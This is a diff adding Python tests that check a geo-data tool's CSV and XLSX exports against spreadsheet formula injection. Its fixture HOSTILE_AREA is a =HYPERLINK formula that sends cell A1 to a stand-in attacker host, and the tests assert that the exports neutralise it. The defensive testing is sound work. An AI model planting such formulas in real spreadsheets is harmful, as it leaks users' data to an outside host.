@@ -93,3 +93,56 @@ def test_an_upload_refuses_exactly_the_cells_an_export_quotes(text, refused):
     exported = excel_csv(pd.DataFrame({"address": [text]})).decode("utf-8-sig")
     cell = next(csv.reader(io.StringIO(exported[exported.index("\n") + 1 :])))[0]
     assert cell.startswith("'") is refused
+
+
+# --------------------------------------------------------------------------- every writer
+
+
+HOSTILE_AREA = '=HYPERLINK("http://attacker.example/?"&A1,"社区")'
+
+
+def test_neutralise_frame_quotes_formula_cells_and_headings_and_keeps_numbers():
+    from geo.cells import neutralise_frame
+
+    table = pd.DataFrame(
+        {"name": FORMULAS, "n": range(len(FORMULAS)), "=h": [None] * len(FORMULAS)}
+    )
+    out = neutralise_frame(table)
+    assert not any(is_formula(v) for v in out["name"])
+    assert out["name"].tolist() == [neutralise(v) for v in FORMULAS]
+    assert out["n"].tolist() == list(range(len(FORMULAS))) and "'=h" in out.columns
+
+
+def test_stats_areas_as_csv_writes_no_live_formula(demo_copy):
+    from tests import databases
+    from tests.conftest import run_cli
+
+    databases.execute(
+        demo_copy,
+        "UPDATE area SET name = ? WHERE id = (SELECT min(id) FROM area WHERE level = 'community')",
+        (HOSTILE_AREA,),
+    )
+    done = run_cli("--db", demo_copy, "stats", "areas", "--level", "community", "--format", "csv")
+    assert done.returncode == 0, done.stderr
+    cells = [cell for row in csv.reader(io.StringIO(done.stdout)) for cell in row]
+    assert "'" + HOSTILE_AREA in cells
+    assert not [c for c in cells if is_formula(c)]
+
+
+def test_a_field_kit_list_writes_no_live_formula():
+    from geo.io.kits import _csv
+
+    data = _csv(pd.DataFrame({"name": ["U1"], "label": [HOSTILE_AREA]})).decode()
+    cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
+    assert "'" + HOSTILE_AREA in cells and not [c for c in cells if is_formula(c)]
+
+
+def test_xlsx_exports_store_formula_looking_text_as_text_never_as_a_formula():
+    import zipfile
+
+    from geo.io.exports import typed_xlsx
+
+    data = typed_xlsx(pd.DataFrame({"name": [HOSTILE_AREA], "n": [1]}), sheet="s")
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet  # no formula element anywhere
